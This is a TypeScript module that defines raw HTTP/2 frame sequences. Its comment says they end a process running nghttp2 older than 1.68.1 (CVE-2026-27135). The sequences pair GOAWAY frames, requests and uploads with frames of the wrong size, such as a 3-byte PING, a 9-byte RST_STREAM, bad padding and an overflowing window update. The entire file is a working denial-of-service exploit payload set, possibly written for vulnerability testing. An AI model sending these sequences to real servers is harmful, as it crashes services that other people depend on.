// Sequences of frames by which a client ends a process whose nghttp2 is before 1.68.1 (CVE-2026-27135), or that come near:
// what ends nghttp2's session from within its reading, and a frame of a wrong size behind it.
import {
  ACK,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  getFields,
  headers,
  PREFACE,
  settings,
  uint32,
} from './http2-raw.ts';

export const zeros = (length: number): Buffer => Buffer.alloc(length);
export const goaway = (code: number): Buffer => frame(FRAME.goaway, 0, 0, uint32(0, code));
export const request = headers(1, getFields('/'));
export const upload = headers(1, getFields('/', [], { ':method': 'POST' }), 0);
export const wrongPing = frame(FRAME.ping, 0, 0, zeros(3));
export const begin = Buffer.concat([PREFACE, settings(), frame(FRAME.settings, ACK, 0)]);

/** To be sent behind `begin`. */
export const SEQUENCES: [name: string, frames: Buffer[]][] = [
  ['GOAWAY, a request, a PING of 3', [goaway(0), request, wrongPing]],
  ['a request, GOAWAY, a PING of 3', [request, goaway(0), wrongPing]],
  ['GOAWAY with an error, a PING of 3', [goaway(1), wrongPing]],
  ['an upload, GOAWAY with an error, a PRIORITY of 1', [upload, goaway(2), frame(FRAME.priority, 0, 1, zeros(1))]],
  ['an upload, two GOAWAYs, SETTINGS of 5', [upload, goaway(0), goaway(0), frame(FRAME.settings, 0, 0, zeros(5))]],
  [
    'DATA of a stream that is over, a RST_STREAM of 9',
    [
      request,
      frame(FRAME.data, END_STREAM, 1, zeros(1)),
      frame(FRAME.data, END_STREAM, 1, zeros(1)),
      frame(FRAME.reset, 0, 1, zeros(9)),
    ],
  ],
  [
    'a head that is none, a GOAWAY of 2',
    [
      frame(FRAME.headers, END_HEADERS, 1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff])),
      frame(FRAME.goaway, 0, 0, zeros(2)),
    ],
  ],
  [
    'a window over its limit, a WINDOW_UPDATE of 1',
    [frame(FRAME.window, 0, 0, uint32(0x7fffffff)), frame(FRAME.window, 0, 0, zeros(1))],
  ],
  ['HEADERS shorter than their priority', [frame(FRAME.headers, 0x25, 1, zeros(4)), wrongPing]],
  ['DATA shorter than their padding', [upload, frame(FRAME.data, 0x8, 1, Buffer.from([9, 0])), wrongPing]],
];
